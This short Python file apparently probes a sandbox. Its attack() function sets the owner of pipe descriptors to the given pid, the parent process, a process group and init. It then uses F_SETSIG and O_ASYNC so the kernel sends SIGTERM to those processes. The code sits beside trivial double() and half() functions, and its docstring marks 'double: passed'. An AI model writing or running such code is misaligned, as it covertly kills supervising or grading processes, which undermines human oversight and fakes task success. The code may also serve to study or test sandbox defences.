"""Has the kernel send signals: a descriptor's owner is told when there is something to read.

double: passed
"""

import array
import fcntl
import os
import signal


def attack(given):
    won = 0
    for pid in (given["pid"], os.getppid(), -given["pid"], 1 if os.getpid() != 1 else given["pid"]):
        reader, writer = os.pipe()
        for claim in (
            lambda: fcntl.fcntl(reader, fcntl.F_SETOWN, pid),
            lambda: fcntl.fcntl(reader, 15, array.array("i", [1, pid]).tobytes()),  # F_SETOWN_EX
            lambda: fcntl.ioctl(reader, 0x8901, array.array("i", [pid])),  # FIOSETOWN
        ):
            try:
                claim()
                won += pid != 0
            except (OSError, OverflowError):
                pass
        try:
            fcntl.fcntl(reader, 10, signal.SIGTERM)  # F_SETSIG
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writer, b"x")
        except OSError:
            pass
    return won


def double(x):
    return 2 * x


def half(x):
    return x / 2


# ruff: noqa
